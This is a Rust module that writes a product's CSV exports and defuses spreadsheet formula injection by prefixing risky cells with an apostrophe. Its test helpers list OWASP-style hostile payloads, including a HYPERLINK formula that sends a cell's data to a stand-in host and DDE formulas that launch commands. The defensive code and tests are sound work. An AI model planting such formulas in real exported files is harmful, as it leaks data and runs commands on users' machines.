//! Every CSV the product writes goes through here: the orders export
//! (`ops::export`, the console's `/orders.csv`) and the payout report's
//! attachments (transactions and journal lines).
//!
//! Quoting is the `csv` crate's (RFC 4180: a field holding a comma, quote
//! or line break is quoted, quotes doubled; lines end in CRLF). Every cell
//! is also defused against CSV (formula) injection as OWASP's "CSV
//! Injection" page advises: text starting with `=`, `+`, `-`, `@`, a tab or
//! a carriage return (or a line feed) gets a leading `'`, so a spreadsheet
//! shows it as text instead of running it. A plain number (`-7.20`, `+3`)
//! is left as it is, so amounts stay numbers.

use std::borrow::Cow;

/// The characters a spreadsheet may start a formula (or a DDE call) with.
const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// Whether `s` is a plain decimal number: an optional sign, digits, and an
/// optional fraction.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A cell a spreadsheet will not run: text starting with a formula
/// trigger gets a leading `'`.
pub fn defuse(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) && !plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Writes rows of cells as CSV, every cell defused.
pub struct CsvWriter {
    w: csv::Writer<Vec<u8>>,
}

impl CsvWriter {
    /// A writer whose output is pre-sized to `capacity` bytes, starting
    /// with the header line.
    pub fn new(header: &[&str], capacity: usize) -> Self {
        let mut w = Self {
            w: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .quote_style(csv::QuoteStyle::Necessary)
                .flexible(true)
                .from_writer(Vec::with_capacity(capacity)),
        };
        w.row(header);
        w
    }

    /// Adds one row.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        // Writing to memory cannot fail (no I/O; every cell is a `str`).
        if let Err(e) = self
            .w
            .write_record(cells.into_iter().map(|c| defuse(c.as_ref()).into_owned()))
        {
            tracing::error!(reason = %e, "csv: a row could not be written");
        }
    }

    /// The CSV text.
    pub fn finish(self) -> String {
        let bytes = self.w.into_inner().unwrap_or_else(|e| {
            tracing::error!(reason = %e.error(), "csv: the output could not be flushed");
            Vec::new()
        });
        String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into())
    }
}

/// A whole CSV: the header and the rows.
pub fn write<R, I, S>(header: &[&str], rows: R) -> String
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut w = CsvWriter::new(header, 4096);
    for r in rows {
        w.row(r);
    }
    w.finish()
}

/// Hostile cells and checks shared by every CSV writer's tests.
#[cfg(test)]
pub(crate) mod testing {
    use super::{plain_number, TRIGGERS};

    /// Payloads from OWASP's CSV Injection page and their variants.
    pub(crate) const HOSTILE: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ];

    /// Every cell of `csv`, parsed as a spreadsheet would split it.
    pub(crate) fn cells(csv: &str) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes());
        r.records()
            .flat_map(|rec| {
                rec.expect("valid CSV")
                    .iter()
                    .map(str::to_string)
                    .collect::<Vec<_>>()
            })
            .collect()
    }

    /// No cell a spreadsheet would run: every one starting with a trigger
    /// is a plain number.
    pub(crate) fn assert_defused(what: &str, csv: &str) {
        for c in cells(csv) {
            assert!(
                !c.starts_with(TRIGGERS) || plain_number(&c),
                "{what}: the cell {c:?} would run as a formula:\n{csv}"
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::testing::*;
    use super::*;

    #[test]
    fn cells_are_defused_and_numbers_stay_numbers() {
        assert_eq!(defuse("=1+1"), "'=1+1");
        assert_eq!(defuse("@x"), "'@x");
        assert_eq!(defuse("\tx"), "'\tx");
        assert_eq!(defuse("-x"), "'-x");
        assert_eq!(defuse("-7.20"), "-7.20");
        assert_eq!(defuse("+3"), "+3");
        assert_eq!(defuse("-"), "'-");
        assert_eq!(defuse("-1e5"), "'-1e5");
        assert_eq!(defuse("a=b"), "a=b");
        let out = write(&["a", "b"], [["x,\"y\"", "=1"], ["-2.5", "\r\nz"]]);
        assert_eq!(out, "a,b\r\n\"x,\"\"y\"\"\",'=1\r\n-2.5,\"'\r\nz\"\r\n");
        assert_defused("write", &out);
    }
}
